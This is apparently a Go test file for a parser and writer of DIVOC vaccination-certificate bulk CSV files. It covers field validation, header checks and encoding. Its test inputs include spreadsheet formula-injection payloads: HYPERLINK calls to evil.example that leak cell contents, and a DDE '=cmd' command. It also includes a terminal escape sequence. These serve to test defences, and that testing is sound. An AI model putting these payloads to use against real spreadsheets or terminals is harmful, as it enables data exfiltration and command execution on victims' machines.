package divocfmt

import (
	"bytes"
	"encoding/csv"
	"errors"
	"os"
	"reflect"
	"strings"
	"testing"
	"time"
)

// sampleRow is DIVOC's certify.json sample as one bulk-CSV row, by column.
func sampleRow() map[string]string {
	return map[string]string{
		"preEnrollmentCode":         "1112",
		"recipientName":             "Bhaya Mitra",
		"recipientMobileNumber":     "9880414889",
		"recipientDOB":              "1994-11-30",
		"recipientGender":           "Male",
		"recipientNationality":      "Indian",
		"recipientIdentity":         "did:in.gov.uidai.aadhaar:2342343334",
		"recipientAddressLine1":     "444, 2nd Street",
		"recipientDistrict":         "Bengaluru",
		"recipientState":            "Karnataka",
		"recipientPincode":          "560034",
		"vaccinationBatch":          "MB3428BX",
		"vaccinationDate":           "2020-12-02T19:21:18.646Z",
		"vaccinationDose":           "1",
		"vaccinationTotalDoses":     "2",
		"vaccinationEffectiveStart": "2020-12-02",
		"vaccinationEffectiveEnd":   "2025-12-02",
		"vaccinationManufacturer":   "COVPharma",
		"vaccinationName":           "CoVax",
		"vaccinatorName":            "Sooraj Singh",
		"facilityName":              "ABC Medical Center",
		"facilityAddressLine1":      "123, Koramangala",
		"facilityDistrict":          "Bengaluru South",
		"facilityState":             "Karnataka",
		"facilityPincode":           "560034",
	}
}

// sampleCertificate is what the sample parses to.
func sampleCertificate(row int, programID string) Certificate {
	return Certificate{
		Row:               row,
		PreEnrollmentCode: "1112",
		ProgramID:         programID,
		Recipient: Recipient{
			Name: "Bhaya Mitra", Mobile: "9880414889", DOB: "1994-11-30", Age: 26,
			Gender: "Male", Nationality: "Indian", Identity: "did:in.gov.uidai.aadhaar:2342343334",
			Address: Address{Line1: "444, 2nd Street", District: "Bengaluru", State: "Karnataka", Pincode: "560034"},
		},
		Vaccination: Vaccination{
			Name: "CoVax", Manufacturer: "COVPharma", Batch: "MB3428BX",
			Date: time.Date(2020, 12, 2, 19, 21, 18, 646e6, time.UTC), Dose: 1, TotalDoses: 2,
			EffectiveStart: "2020-12-02", EffectiveUntil: "2025-12-02",
		},
		VaccinatorName:  "Sooraj Singh",
		FacilityName:    "ABC Medical Center",
		FacilityAddress: Address{Line1: "123, Koramangala", District: "Bengaluru South", State: "Karnataka", Pincode: "560034"},
	}
}

// bulkFile writes a bulk CSV with the DIVOC header and one row per map,
// without escaping (as a facility's spreadsheet might).
func bulkFile(t testing.TB, rows ...map[string]string) string {
	t.Helper()
	var b strings.Builder
	w := csv.NewWriter(&b)
	w.Write(BulkCSVHeader())
	for _, row := range rows {
		rec := make([]string, len(bulkFields))
		for i, f := range bulkFields {
			rec[i] = row[f.col]
		}
		w.Write(rec)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func with(changes map[string]string) map[string]string {
	row := sampleRow()
	for k, v := range changes {
		row[k] = v
	}
	return row
}

type fieldCode struct{ Field, Code string }

func fieldCodes(errs []RowError) []fieldCode {
	var out []fieldCode
	for _, e := range errs {
		out = append(out, fieldCode{e.Field, e.Code})
	}
	return out
}

func TestBulkCSVHeaderIsDIVOCs(t *testing.T) {
	want, err := os.ReadFile("testdata/divoc/header-certificates.csv")
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(BulkCSVHeader(), ","); got != strings.TrimSpace(string(want)) {
		t.Errorf("header\n got %s\nwant %s", got, want)
	}
	var out bytes.Buffer
	if err := WriteBulkCSV(&out, nil); err != nil {
		t.Fatal(err)
	}
	if got := strings.TrimSuffix(out.String(), "\n"); got != strings.TrimSpace(string(want)) {
		t.Errorf("WriteBulkCSV header\n got %s\nwant %s", got, want)
	}
}

func TestParseBulkCSVSample(t *testing.T) {
	certs, errs, err := ParseBulkCSV(strings.NewReader(bulkFile(t, sampleRow())), CSVOptions{})
	if err != nil || len(errs) > 0 {
		t.Fatalf("err %v, row errors %v", err, errs)
	}
	if want := []Certificate{sampleCertificate(2, "")}; !reflect.DeepEqual(certs, want) {
		t.Errorf("got  %+v\nwant %+v", certs, want)
	}
}

// TestParseBulkCSVRows changes one sample row and checks the row errors
// (nil: the row is good, and check, if set, looks at the certificate).
func TestParseBulkCSVRows(t *testing.T) {
	long := strings.Repeat("x", MaxFieldLen)
	tests := []struct {
		name    string
		changes map[string]string
		want    []fieldCode
		check   func(t *testing.T, c Certificate)
	}{
		{"sample", nil, nil, nil},
		{"date only", map[string]string{"vaccinationDate": "2021-03-01", "vaccinationEffectiveStart": "2021-03-01"}, nil, func(t *testing.T, c Certificate) {
			if want := time.Date(2021, 3, 1, 0, 0, 0, 0, time.UTC); !c.Vaccination.Date.Equal(want) {
				t.Errorf("date %v, want %v", c.Vaccination.Date, want)
			}
		}},
		{"effective start before the vaccination (the certificate does not carry it)", map[string]string{"vaccinationEffectiveStart": "2020-11-01"}, nil, nil},
		{"vaccination in year 0", map[string]string{"vaccinationDate": "0000-01-01"}, []fieldCode{{"vaccinationDate", CodeInvalidDate}}, nil},
		{"vaccination in year 9999", map[string]string{"vaccinationDate": "9999-12-31"}, []fieldCode{{"vaccinationDate", CodeInvalidDate}}, nil},
		{"effective end before the vaccination", map[string]string{"vaccinationEffectiveEnd": "1999-01-01"}, []fieldCode{{"vaccinationEffectiveEnd", CodeInvalidDate}}, nil},
		{"effective end before the start", map[string]string{"vaccinationEffectiveStart": "2021-01-01", "vaccinationEffectiveEnd": "2020-12-31"}, []fieldCode{{"vaccinationEffectiveEnd", CodeInvalidDate}}, nil},
		{"effective start on the local day after the UTC date", map[string]string{"vaccinationDate": "2020-12-02T20:00:00Z", "vaccinationEffectiveStart": "2020-12-03"}, nil, nil},
		{"date with offset is kept in UTC", map[string]string{"vaccinationDate": "2020-12-03T00:51:18+05:30"}, nil, func(t *testing.T, c Certificate) {
			if got := c.Vaccination.Date.Format(time.RFC3339); got != "2020-12-02T19:21:18Z" {
				t.Errorf("date %s", got)
			}
		}},
		{"bad date", map[string]string{"vaccinationDate": "02/12/2020"}, []fieldCode{{"vaccinationDate", CodeInvalidDate}}, nil},
		{"impossible date", map[string]string{"vaccinationDate": "2021-02-30"}, []fieldCode{{"vaccinationDate", CodeInvalidDate}}, nil},
		{"missing date", map[string]string{"vaccinationDate": ""}, []fieldCode{{"vaccinationDate", CodeMissingValue}}, nil},
		{"missing name", map[string]string{"recipientName": "  "}, []fieldCode{{"recipientName", CodeMissingValue}}, nil},
		{"every missing value reported", map[string]string{"vaccinationBatch": "", "vaccinationName": "", "vaccinatorName": "", "vaccinationDose": ""},
			[]fieldCode{{"vaccinationBatch", CodeMissingValue}, {"vaccinationDose", CodeMissingValue},
				{"vaccinationName", CodeMissingValue}, {"vaccinatorName", CodeMissingValue}}, nil},
		{"dose not a number", map[string]string{"vaccinationDose": "one"}, []fieldCode{{"vaccinationDose", CodeInvalidNumber}}, nil},
		{"dose 1.0", map[string]string{"vaccinationDose": "1.0"}, []fieldCode{{"vaccinationDose", CodeInvalidNumber}}, nil},
		{"dose 0", map[string]string{"vaccinationDose": "0"}, []fieldCode{{"vaccinationDose", CodeDoseOutOfRange}}, nil},
		{"dose -1", map[string]string{"vaccinationDose": "-1"}, []fieldCode{{"vaccinationDose", CodeDoseOutOfRange}}, nil},
		{"dose above total", map[string]string{"vaccinationDose": "3"}, []fieldCode{{"vaccinationDose", CodeDoseOutOfRange}}, nil},
		{"dose equal to total", map[string]string{"vaccinationDose": "2"}, nil, nil},
		{"dose without total", map[string]string{"vaccinationDose": "3", "vaccinationTotalDoses": ""}, nil, func(t *testing.T, c Certificate) {
			if c.Vaccination.Dose != 3 || c.Vaccination.TotalDoses != 0 {
				t.Errorf("dose %d of %d", c.Vaccination.Dose, c.Vaccination.TotalDoses)
			}
		}},
		{"dose above max", map[string]string{"vaccinationDose": "11", "vaccinationTotalDoses": ""}, []fieldCode{{"vaccinationDose", CodeDoseOutOfRange}}, nil},
		{"total above max", map[string]string{"vaccinationTotalDoses": "11"}, []fieldCode{{"vaccinationTotalDoses", CodeDoseOutOfRange}}, nil},
		{"total 0", map[string]string{"vaccinationTotalDoses": "0"}, []fieldCode{{"vaccinationTotalDoses", CodeDoseOutOfRange}}, nil},
		{"total not a number", map[string]string{"vaccinationTotalDoses": "two"}, []fieldCode{{"vaccinationTotalDoses", CodeInvalidNumber}}, nil},
		{"age given", map[string]string{"recipientAge": "40"}, nil, func(t *testing.T, c Certificate) {
			if c.Recipient.Age != 40 {
				t.Errorf("age %d", c.Recipient.Age)
			}
		}},
		{"age not a number", map[string]string{"recipientAge": "forty"}, []fieldCode{{"recipientAge", CodeInvalidNumber}}, nil},
		{"age 151", map[string]string{"recipientAge": "151"}, []fieldCode{{"recipientAge", CodeAgeOutOfRange}}, nil},
		{"age -1", map[string]string{"recipientAge": "-1"}, []fieldCode{{"recipientAge", CodeAgeOutOfRange}}, nil},
		{"age 150 without dob", map[string]string{"recipientAge": "150", "recipientDOB": ""}, nil, nil},
		{"no dob no age", map[string]string{"recipientDOB": ""}, nil, func(t *testing.T, c Certificate) {
			if c.Recipient.Age != 0 || c.Recipient.DOB != "" {
				t.Errorf("age %d dob %q", c.Recipient.Age, c.Recipient.DOB)
			}
		}},
		{"bad dob", map[string]string{"recipientDOB": "30-11-1994"}, []fieldCode{{"recipientDOB", CodeInvalidDate}}, nil},
		{"dob after vaccination", map[string]string{"recipientDOB": "2020-12-03"}, []fieldCode{{"recipientDOB", CodeDOBAfterVaccination}}, nil},
		{"born on the day", map[string]string{"recipientDOB": "2020-12-02"}, nil, nil},
		{"dob too old", map[string]string{"recipientDOB": "1850-01-01"}, []fieldCode{{"recipientDOB", CodeAgeOutOfRange}}, nil},
		{"short mobile", map[string]string{"recipientMobileNumber": "98804"}, []fieldCode{{"recipientMobileNumber", CodeInvalidMobile}}, nil},
		{"mobile with space", map[string]string{"recipientMobileNumber": "98804 14889"}, []fieldCode{{"recipientMobileNumber", CodeInvalidMobile}}, nil},
		{"mobile 16 digits", map[string]string{"recipientMobileNumber": "+9198804148891234"}, []fieldCode{{"recipientMobileNumber", CodeInvalidMobile}}, nil},
		{"mobile with +", map[string]string{"recipientMobileNumber": "+919880414889"}, nil, func(t *testing.T, c Certificate) {
			if c.Recipient.Mobile != "+919880414889" {
				t.Errorf("mobile %q", c.Recipient.Mobile)
			}
		}},
		{"mobile only", map[string]string{"recipientIdentity": ""}, nil, nil},
		{"identity only", map[string]string{"recipientMobileNumber": ""}, nil, nil},
		{"no identity no mobile", map[string]string{"recipientIdentity": "", "recipientMobileNumber": ""},
			[]fieldCode{{"recipientIdentity", CodeMissingContact}}, nil},
		{"not UTF-8", map[string]string{"recipientName": "Bh\xe2ya"}, []fieldCode{{"recipientName", CodeInvalidEncoding}}, nil},
		{"256 bytes", map[string]string{"recipientAddressLine2": long}, nil, nil},
		{"257 bytes", map[string]string{"recipientAddressLine2": long + "x"}, []fieldCode{{"recipientAddressLine2", CodeTooLong}}, nil},
		{"bad effective date", map[string]string{"vaccinationEffectiveEnd": "soon"}, []fieldCode{{"vaccinationEffectiveEnd", CodeInvalidDate}}, nil},
		{"formula kept as text", map[string]string{"recipientName": `=HYPERLINK("http://evil.example","x")`}, nil, func(t *testing.T, c Certificate) {
			if c.Recipient.Name != `=HYPERLINK("http://evil.example","x")` {
				t.Errorf("name %q", c.Recipient.Name)
			}
		}},
		{"escaped formula read as the spreadsheet shows it", map[string]string{"recipientName": "'=1+1"}, nil, func(t *testing.T, c Certificate) {
			if c.Recipient.Name != "=1+1" {
				t.Errorf("name %q", c.Recipient.Name)
			}
		}},
		{"apostrophe name kept", map[string]string{"recipientName": "'Neil"}, nil, func(t *testing.T, c Certificate) {
			if c.Recipient.Name != "'Neil" {
				t.Errorf("name %q", c.Recipient.Name)
			}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			certs, errs, err := ParseBulkCSV(strings.NewReader(bulkFile(t, with(tt.changes))), CSVOptions{})
			if err != nil {
				t.Fatal(err)
			}
			if got := fieldCodes(errs); !reflect.DeepEqual(got, tt.want) {
				t.Fatalf("row errors %v, want %v (%v)", got, tt.want, errs)
			}
			for _, e := range errs {
				if e.Row != 2 || e.Message == "" {
					t.Errorf("row error %+v: want row 2 and a message", e)
				}
			}
			if tt.want != nil {
				if len(certs) != 0 {
					t.Errorf("bad row returned as a certificate: %+v", certs)
				}
				return
			}
			if len(certs) != 1 {
				t.Fatalf("got %d certificates, want 1", len(certs))
			}
			if tt.check != nil {
				tt.check(t, certs[0])
			}
		})
	}
}

func TestParseBulkCSVBadLines(t *testing.T) {
	header := strings.Join(BulkCSVHeader(), ",")
	good := bulkFile(t, sampleRow())
	goodLine := strings.SplitN(good, "\n", 3)[1]
	tests := []struct {
		name string
		line string
		want string
	}{
		{"one cell too many", goodLine + ",extra", CodeWrongFieldCount},
		{"one cell too few", goodLine[:strings.LastIndex(goodLine, ",")], CodeWrongFieldCount},
		{"bare quote", strings.Replace(goodLine, "Bhaya", `Bh"aya`, 1), CodeCSVSyntax},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			file := header + "\n" + tt.line + "\n" + goodLine + "\n"
			certs, errs, err := ParseBulkCSV(strings.NewReader(file), CSVOptions{})
			if err != nil {
				t.Fatal(err)
			}
			if len(errs) != 1 || errs[0].Code != tt.want || errs[0].Row != 2 {
				t.Errorf("row errors %v, want one %s on row 2", errs, tt.want)
			}
			if len(certs) != 1 || certs[0].Row != 3 {
				t.Errorf("the good row after it was lost: %+v", certs)
			}
		})
	}
}

// TestParseBulkCSVKeepsGoodRows checks that every bad row is reported, with
// its line number (a quoted cell can span lines), and every good row kept.
func TestParseBulkCSVKeepsGoodRows(t *testing.T) {
	file := bulkFile(t,
		sampleRow(), // line 2
		with(map[string]string{"recipientName": ""}),                                                        // line 3
		with(map[string]string{"recipientAddressLine1": "Flat 4,\nSecond floor", "preEnrollmentCode": "2"}), // lines 4-5
		with(map[string]string{"vaccinationDose": "x", "vaccinationDate": "x"}),                             // line 6
	) + strings.Repeat(",", len(bulkFields)-1) + "\n" // an empty spreadsheet row: skipped
	file += bulkFile(t, with(map[string]string{"preEnrollmentCode": "3"}))[len(strings.Join(BulkCSVHeader(), ","))+1:] // line 8
	certs, errs, err := ParseBulkCSV(strings.NewReader(file), CSVOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var rows []int
	for _, c := range certs {
		rows = append(rows, c.Row)
	}
	if want := []int{2, 4, 8}; !reflect.DeepEqual(rows, want) {
		t.Errorf("good rows %v, want %v", rows, want)
	}
	if certs[1].Recipient.Address.Line1 != "Flat 4,\nSecond floor" {
		t.Errorf("multi-line cell %q", certs[1].Recipient.Address.Line1)
	}
	want := []RowError{
		{Row: 3, Field: "recipientName", Code: CodeMissingValue},
		{Row: 6, Field: "vaccinationDate", Code: CodeInvalidDate},
		{Row: 6, Field: "vaccinationDose", Code: CodeInvalidNumber},
	}
	for i := range errs {
		errs[i].Message = ""
	}
	if !reflect.DeepEqual(errs, want) {
		t.Errorf("row errors %v, want %v", errs, want)
	}
}

func TestParseBulkCSVHeader(t *testing.T) {
	all := BulkCSVHeader()
	without := func(drop ...string) []string {
		var out []string
		for _, c := range all {
			if !contains(drop, c) {
				out = append(out, c)
			}
		}
		return out
	}
	tests := []struct {
		name      string
		header    []string
		wantCode  string
		wantNames []string
	}{
		{"DIVOC header", all, "", nil},
		{"required columns only, any order", []string{"vaccinatorName", "vaccinationBatch", "recipientMobileNumber",
			"vaccinationDose", "vaccinationName", "vaccinationDate", "recipientName"}, "", nil},
		{"spaces around names", append([]string{" preEnrollmentCode "}, all[1:]...), "", nil},
		{"missing name column", without("recipientName"), CodeMissingColumns, []string{"recipientName"}},
		{"missing two", without("vaccinationDate", "vaccinatorName"), CodeMissingColumns, []string{"vaccinationDate", "vaccinatorName"}},
		{"no identity nor mobile", without("recipientIdentity", "recipientMobileNumber"), CodeMissingColumns,
			[]string{"recipientIdentity or recipientMobileNumber"}},
		{"missing and unknown", append(without("recipientName"), "recipientname"), CodeMissingColumns, []string{"recipientName"}},
		{"unknown column", append(all[:len(all):len(all)], "remarks"), CodeUnknownColumns, []string{"remarks"}},
		{"wrong case", append([]string{"PreEnrollmentCode"}, all[1:]...), CodeUnknownColumns, []string{"PreEnrollmentCode"}},
		{"empty column name", append(all[:len(all):len(all)], ""), CodeUnknownColumns, []string{"(empty name in column 29)"}},
		{"duplicate column", append(all[:len(all):len(all)], "recipientName"), CodeDuplicateColumns, []string{"recipientName"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			file := strings.Join(tt.header, ",") + "\n"
			_, _, err := ParseBulkCSV(strings.NewReader(file), CSVOptions{})
			checkFileError(t, err, tt.wantCode, tt.wantNames)
		})
	}
}

func TestParseBulkCSVFileErrors(t *testing.T) {
	tests := []struct {
		name     string
		file     string
		wantCode string
	}{
		{"empty", "", CodeEmptyFile},
		{"only a BOM", "\xef\xbb\xbf", CodeEmptyFile},
		{"UTF-16", "\xff\xfep\x00r\x00e\x00", CodeInvalidEncoding},
		{"broken header quoting", `"preEnrollmentCode,recipientName` + "\n", CodeCSVSyntax},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, _, err := ParseBulkCSV(strings.NewReader(tt.file), CSVOptions{})
			checkFileError(t, err, tt.wantCode, nil)
		})
	}
}

func checkFileError(t *testing.T, err error, wantCode string, wantNames []string) {
	t.Helper()
	if wantCode == "" {
		if err != nil {
			t.Fatalf("unexpected error %v", err)
		}
		return
	}
	var fe *FileError
	if !errors.As(err, &fe) {
		t.Fatalf("error %v, want a *FileError %s", err, wantCode)
	}
	if fe.Code != wantCode || (wantNames != nil && !reflect.DeepEqual(fe.Names, wantNames)) {
		t.Errorf("got %s %q (%v), want %s %q", fe.Code, fe.Names, fe, wantCode, wantNames)
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func TestParseBulkCSVBOMAndCRLF(t *testing.T) {
	f, err := os.Open("testdata/bulk-bom-crlf.csv")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	certs, errs, err := ParseBulkCSV(f, CSVOptions{})
	if err != nil || len(errs) > 0 {
		t.Fatalf("err %v, row errors %v", err, errs)
	}
	if len(certs) != 2 {
		t.Fatalf("got %d certificates, want 2", len(certs))
	}
	if want := sampleCertificate(2, ""); !reflect.DeepEqual(certs[0], want) {
		t.Errorf("got  %+v\nwant %+v", certs[0], want)
	}
	c := certs[1]
	if c.Recipient.Name != `=HYPERLINK("http://evil.example/?x="&A1,"Click me")` {
		t.Errorf("formula name %q", c.Recipient.Name)
	}
	if c.Recipient.Mobile != "+919880414890" || c.Recipient.Age != 71 || c.FacilityName != "PHC Rampur" {
		t.Errorf("row 3: %+v", c)
	}
}

func TestParseBulkCSVMaxRows(t *testing.T) {
	header, line, _ := strings.Cut(bulkFile(t, sampleRow()), "\n")
	rows := func(n int) string { return header + "\n" + strings.Repeat(line, n) }
	tests := []struct {
		name     string
		rows     int
		maxRows  int
		wantCode string
	}{
		{"at the limit", 3, 3, ""},
		{"one over", 4, 3, CodeTooManyRows},
		{"default limit", DefaultMaxRows + 1, 0, CodeTooManyRows},
		{"no limit", DefaultMaxRows + 1, -1, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			certs, _, err := ParseBulkCSV(strings.NewReader(rows(tt.rows)), CSVOptions{MaxRows: tt.maxRows})
			checkFileError(t, err, tt.wantCode, nil)
			if tt.wantCode == "" && len(certs) != tt.rows {
				t.Errorf("got %d certificates, want %d", len(certs), tt.rows)
			}
		})
	}
}

func TestWriteBulkCSVRoundTrip(t *testing.T) {
	c := sampleCertificate(0, "")
	formula := c
	formula.Recipient.Name = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	formula.Recipient.Address.Line1 = "@SUM(1+1)"
	formula.Recipient.Address.Line2 = "-2+3"
	formula.FacilityName = "\t=cmd|' /C calc'!A0"
	formula.Recipient.Mobile = "+919880414889"
	formula.Recipient.Age = 0 // beside a DOB: written as 0, not derived
	unicode := c
	unicode.Recipient.Name = "ಭಾಯಾ ಮಿತ್ರ \"BM\", Jr."
	unicode.FacilityName = "St. Mary’s Medical Center"
	unicode.Vaccination.Date = time.Date(2021, 6, 1, 4, 5, 6, 0, time.UTC)
	unicode.Vaccination.EffectiveStart = "2021-06-01"
	unicode.Recipient.DOB = ""
	unicode.Recipient.Age = 45
	unicode.Vaccination.TotalDoses = 0
	unicode.PreEnrollmentCode = "'quoted"
	in := []Certificate{c, formula, unicode}

	var buf bytes.Buffer
	if err := WriteBulkCSV(&buf, in); err != nil {
		t.Fatal(err)
	}
	assertNoFormulaCells(t, buf.Bytes())
	out, errs, err := ParseBulkCSV(&buf, CSVOptions{})
	if err != nil || len(errs) > 0 {
		t.Fatalf("err %v, row errors %v", err, errs)
	}
	for i := range in {
		in[i].Row = i + 2
	}
	if !reflect.DeepEqual(out, in) {
		t.Errorf("round trip\n got %+v\nwant %+v", out, in)
	}
}

// assertNoFormulaCells fails if any cell of the CSV would start a formula:
// only plain numbers may start with + or -.
func assertNoFormulaCells(t *testing.T, data []byte) {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs {
		for _, cell := range rec {
			if cell == "" {
				continue
			}
			switch cell[0] {
			case '=', '@', '\t', '\r':
				t.Errorf("formula cell %q", cell)
			case '+', '-':
				if strings.Trim(cell[1:], "0123456789") != "" {
					t.Errorf("formula cell %q", cell)
				}
			}
		}
	}
}

// A name with a terminal escape or a NUL is refused (it could rewrite a
// verifier's screen); the rows beside it are kept.
func TestParseBulkCSVRefusesControlCharacters(t *testing.T) {
	var b strings.Builder
	w := csv.NewWriter(&b)
	w.Write(BulkCSVHeader())
	for _, name := range []string{"Evil\x1b[2J\x1b[31mVALID", "Nul\x00Name", "Fine Name"} {
		row := sampleRow()
		row["recipientName"] = name
		var rec []string
		for _, col := range BulkCSVHeader() {
			rec = append(rec, row[col])
		}
		w.Write(rec)
	}
	w.Flush()
	certs, errs, err := ParseBulkCSV(strings.NewReader(b.String()), CSVOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(certs) != 1 || certs[0].Recipient.Name != "Fine Name" || len(errs) != 2 {
		t.Fatalf("certs %d, errors %+v", len(certs), errs)
	}
	for _, e := range errs {
		if e.Code != CodeControlChar || e.Field != "recipientName" {
			t.Errorf("error %+v", e)
		}
	}
}
